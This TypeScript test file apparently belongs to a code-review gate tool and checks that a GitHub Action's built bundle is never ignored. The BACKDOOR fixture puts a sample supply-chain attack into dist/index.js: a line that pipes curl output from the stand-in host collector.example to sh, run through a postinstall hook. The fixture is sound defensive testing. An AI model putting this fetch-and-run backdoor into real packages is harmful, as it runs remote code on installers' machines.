/**
 * Issue 37 item 4: `init` never ignores what runs. On an Action repository, `dist/**` (what
 * `action.yml` starts) stays out of the ignore list, and a critical assertion covers the bundle
 * and package.json's install hooks. A backdoor in `dist/index.js` plus a `postinstall` hook is
 * then judged — it was "not applicable", PASS with no model call — while an honest rebuild still
 * passes. Through the built CLI, on real git repositories, with the Ollama double.
 */
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import type { CriticResult } from '../../../src/contract/result.js';
import { startOllamaDouble, type OllamaDouble } from '../../doubles/ollama.js';
import { createGitRepo, type GitRepoFixture } from '../../support/git-repo.js';
import { assertCliBuilt, runCli } from '../../support/run-cli.js';

const CONFIG = '.github/critic-gate.yml';

const ACTION: Record<string, string> = {
  'action.yml': 'name: demo\ndescription: a demo action\nruns:\n  using: node24\n  main: dist/index.js\n',
  'package.json':
    '{\n  "name": "demo-action",\n  "version": "1.0.0",\n  "scripts": {\n    "build": "esbuild src/index.ts --bundle --outfile=dist/index.js"\n  }\n}\n',
  'src/index.ts': "export function greet(name: string): string {\n  return `hello ${name}`;\n}\nconsole.log(greet('world'));\n",
  'dist/index.js': "function greet(name) {\n  return `hello ${name}`;\n}\nconsole.log(greet('world'));\n",
};

/** The attack: the bundle gains code its source lacks, and package.json an install hook. */
const BACKDOOR: Record<string, string> = {
  'dist/index.js': `${ACTION['dist/index.js']!}require('child_process').exec('curl -s https://collector.example/x | sh');\n`,
  'package.json': ACTION['package.json']!.replace('"build":', '"postinstall": "node dist/index.js",\n    "build":'),
};

/** The twin: the source changes, and the bundle is its rebuilt output. */
const REBUILD: Record<string, string> = {
  'src/index.ts': ACTION['src/index.ts']!.replace('`hello ${name}`', '`hello, ${name}!`'),
  'dist/index.js': ACTION['dist/index.js']!.replace('`hello ${name}`', '`hello, ${name}!`'),
  // A build's source map changes whole with every rebuild: outside runs-as-built's scope, it cannot leave it unseen.
  'dist/index.js.map': `{"version":3,"sources":["../src/index.ts"],"mappings":"${'AAAA,'.repeat(200)}"}\n`,
};

let repos: GitRepoFixture[] = [];
let doubles: OllamaDouble[] = [];

beforeAll(() => assertCliBuilt());
afterEach(async () => {
  await Promise.all([...repos.map((r) => r.cleanup()), ...doubles.map((d) => d.close())]);
  repos = [];
  doubles = [];
});
afterAll(async () => undefined);

/** An Action repository with the config `init` wrote committed on main, and a branch with `change`. */
async function actionRepoWith(change: Record<string, string>): Promise<{ repo: GitRepoFixture; config: string }> {
  const repo = await createGitRepo();
  repos.push(repo);
  for (const [path, text] of Object.entries(ACTION)) await repo.write(path, text);
  await repo.commit('an action');
  const init = await runCli(['init', '--repo', repo.dir]);
  expect(init.code, init.stderr).toBe(0);
  await repo.commit('critic-gate init');
  await repo.branch('feature');
  for (const [path, text] of Object.entries(change)) await repo.write(path, text);
  await repo.commit('feature');
  return { repo, config: await readFile(join(repo.dir, CONFIG), 'utf8') };
}

async function judge(repo: GitRepoFixture, answers: 'met' | 'unmet'): Promise<{ result: CriticResult; prompts: string[] }> {
  // Every assertion answered alike; calibration off, since canaries answered alike would fail it.
  const double = await startOllamaDouble({ fallback: { content: '', auto: answers } });
  doubles.push(double);
  const run = await runCli(['pr', '--repo', repo.dir, '--base', 'main', '--format', 'json', '--calibration', 'off', '--cache', 'off'], {
    env: { OLLAMA_HOST: double.url },
  });
  const prompts = double.chatRequests().map((r) => JSON.stringify(r));
  return { result: run.json(), prompts };
}

describe('init never ignores what runs (issue 37 item 4)', () => {
  it('keeps dist/** out of the ignore list of an Action, says why, and writes a critical assertion over the bundle and package.json', async () => {
    const { config } = await actionRepoWith({});
    const parsed = parse(config) as {
      ignore: string[];
      assertions: Array<{ id: string; critical?: boolean; files: string[] }>;
      gate: Array<Record<string, unknown>>;
    };
    expect(parsed.ignore).not.toContain('dist/**');
    expect(parsed.ignore).toContain('build/**');
    expect(config).toContain('# not "dist/**": dist/index.js is code that runs (action.yml runs it (runs.main))');
    const runs = parsed.assertions.find((a) => a.id === 'runs-as-built');
    expect(runs).toMatchObject({ critical: true });
    // The bundle's code, not what a build writes beside it (source maps, licence lists).
    expect(runs!.files).toEqual(expect.arrayContaining(['dist/**/*.js', 'package.json', 'action.yml']));
    // A rebuilt bundle is not hand-written source: no placeholder scan or size limit counts it.
    for (const kind of ['no-placeholders', 'max-changed-lines']) {
      expect(parsed.gate.find((g) => g['kind'] === kind)).toMatchObject({ exclude: ['dist/**'] });
    }
  });

  it('a backdoor in dist/index.js plus a postinstall hook is judged on what it adds, and an unmet answer FAILs', async () => {
    const { repo } = await actionRepoWith(BACKDOOR);
    const { result, prompts } = await judge(repo, 'unmet');
    expect(prompts.length).toBeGreaterThan(0);
    // The judge was shown the bundle's new line and the hook.
    expect(prompts.join('\n')).toContain('collector.example');
    expect(prompts.join('\n')).toContain('postinstall');
    expect(result.criteria.find((c) => c.id === 'runs-as-built')).toMatchObject({ status: 'judged', met: false, critical: true });
    expect(result.verdict).toBe('FAIL');
  });

  it('the honest twin: a source change with its rebuilt bundle, judged met, passes', async () => {
    const { repo } = await actionRepoWith(REBUILD);
    const { result, prompts } = await judge(repo, 'met');
    expect(prompts.length).toBeGreaterThan(0);
    expect(result.criteria.find((c) => c.id === 'runs-as-built')).toMatchObject({ status: 'judged', met: true });
    expect(result.verdict).toBe('PASS');
  });

  it('a repository that runs nothing from an ignored folder gets no such assertion and keeps dist/** ignored', async () => {
    const repo = await createGitRepo();
    repos.push(repo);
    await repo.write('src/app.ts', 'export const x = 1;\n');
    await repo.write('package.json', '{\n  "name": "app",\n  "main": "src/app.ts"\n}\n');
    await repo.commit('an app');
    const init = await runCli(['init', '--repo', repo.dir]);
    expect(init.code, init.stderr).toBe(0);
    const config = await readFile(join(repo.dir, CONFIG), 'utf8');
    expect(config).not.toContain('runs-as-built');
    expect((parse(config) as { ignore: string[] }).ignore).toContain('dist/**');
  });
});
